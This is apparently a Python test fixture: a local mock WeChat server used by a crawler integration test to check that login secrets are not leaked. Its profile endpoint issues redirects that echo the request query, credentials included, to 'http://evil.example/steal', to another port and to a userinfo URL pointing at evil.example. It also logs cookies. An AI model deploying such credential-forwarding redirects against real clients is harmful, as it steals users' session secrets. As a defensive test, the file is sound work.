#!/usr/bin/env python3
"""A hostile WeChat host for tests/integration/crawler_secrets.sh: serves
https://mp.weixin.qq.com (TLS, test CA) and, on a plain port, every other
host; its redirects echo the request's query (credentials included) towards
another host, another port and a user@host URL, and back to itself with a
parameter repeated.

usage: crawler_secret_server.py PORT_FILE LOG_FILE CERT KEY
PORT_FILE gets "TLS_PORT PLAIN_PORT". Log lines:
scheme TAB local_port TAB host TAB method TAB path TAB cookie
"""
import ssl
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT_FILE, LOG_FILE, CERT, KEY = sys.argv[1:5]
lock = threading.Lock()


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def send(self, status, body, headers=()):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def record(self):
        tls = isinstance(self.connection, ssl.SSLSocket)
        with lock:
            with open(LOG_FILE, "a") as f:
                f.write("%s\t%d\t%s\t%s\t%s\t%s\n" % ("https" if tls else "http", self.server.server_port,
                                                       self.headers.get("Host", ""), self.command, self.path,
                                                       self.headers.get("Cookie", "")))

    def answer(self):
        self.record()
        p = self.path
        q = p.split("?", 1)[1] if "?" in p else ""
        host = self.headers.get("Host", "")
        if p == "/robots.txt":
            self.send(404, b"none")
        elif host.startswith("mp.weixin.qq.com") and p.startswith("/mp/profile_ext"):
            if "__biz=A" in q:
                loc = "http://evil.example/steal?" + q
            elif "__biz=B" in q:
                loc = "https://mp.weixin.qq.com:8443/mp/profile_ext?" + q
            elif "__biz=C" in q:
                loc = "https://mp.weixin.qq.com@evil.example/mp/profile_ext?" + q
            elif "__biz=D" in q and "hop=1" not in q:
                loc = "/mp/profile_ext?" + q + "&action=home&hop=1"
            else:
                loc = None
            if loc:
                self.send(302, b"", [("Location", loc)])
            else:
                self.send(200, b"<html><body>var msgList = '';</body></html>", [("Content-Type", "text/html")])
        elif p.startswith("/mp/getappmsgext"):
            self.send(200, b'{"appmsgstat":{"read_num":1,"like_num":1}}', [("Content-Type", "application/json")])
        else:
            self.send(200, b"<html>other</html>", [("Content-Type", "text/html")])

    def do_GET(self):
        self.answer()

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        self.rfile.read(n)
        self.answer()


tls = ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(CERT, KEY)
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
plain = ThreadingHTTPServer(("127.0.0.1", 0), H)
with open(PORT_FILE + ".tmp", "w") as f:
    f.write("%d %d\n" % (tls.server_port, plain.server_port))
import os
os.rename(PORT_FILE + ".tmp", PORT_FILE)
threading.Thread(target=plain.serve_forever, daemon=True).start()
tls.serve_forever()
